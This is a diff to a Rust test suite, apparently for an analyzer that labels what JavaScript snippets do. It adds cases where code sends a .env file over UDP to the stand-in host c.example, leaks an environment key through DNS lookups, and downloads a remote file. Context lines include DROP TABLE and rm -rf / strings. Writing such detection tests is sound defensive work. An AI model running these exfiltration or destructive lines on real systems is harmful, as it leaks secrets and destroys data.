@@ -126,6 +126,18 @@ fn data_leaves_and_comes() {
                 "import('https://g.example/x.js')",
                 &["fetch https://g.example/x.js", "evaluate ?<https://g.example/x.js>"],
             ),
+            (
+                "const s = dgram.createSocket('udp4'); s.send(fs.readFileSync('.env'), 53, 'c.example')",
+                &["read .env", "send ?<file .env> to c.example"],
+            ),
+            (
+                "dns.lookup(process.env.KEY + '.c.example', () => {})",
+                &["send ?.c.example<$KEY> to ?.c.example", "fetch ?.c.example"],
+            ),
+            (
+                "https.get('https://g.example', r => r.pipe(fs.createWriteStream('x')))",
+                &["fetch https://g.example", "write x: ?<https://g.example>"],
+            ),
             ("require('./x.js')", &["import ./x.js"]),
             ("await client.query('DROP TABLE users')", &["sql DROP TABLE users"]),
             ("await prisma.$executeRaw`TRUNCATE TABLE users`", &["sql TRUNCATE TABLE users"]),
@@ -145,7 +157,7 @@ fn a_result_may_be_printed() {
         &[
             ("process.env.STRIPE_SECRET_KEY", &["print ?<$STRIPE_SECRET_KEY>"]),
             ("1 + 1", &["print 2"]),
-            ("require('./package.json').version", &["import ./package.json", "print ?"]),
+            ("require('./package.json').version", &["read ./package.json", "print ?<file ./package.json>"]),
             ("require('fs').readFileSync('.env').toString()", &["read .env", "print ?<file .env>"]),
         ],
     );
@@ -160,6 +172,7 @@ fn harmless_code_takes_no_steps_or_only_prints() {
             ("// execSync('rm -rf /')\n/* rmSync('/') */ let x = 1", &[]),
             ("console.log(JSON.stringify({rule: 'rm -rf /'}))", &["print ?"]),
             ("if (/rm -rf \\//.test(cmd)) console.log('bad')", &["print bad"]),
+            ("fs.readdirSync('logs').length", &["list logs"]),
             ("const re = /execSync('x')/g; x = a / b / c;", &[]),
             ("const r = /a/.exec('rm -rf /')", &["sql rm -rf /"]),
             ("console.log(`rm -rf ${x}`)", &["print rm -rf ?"]),
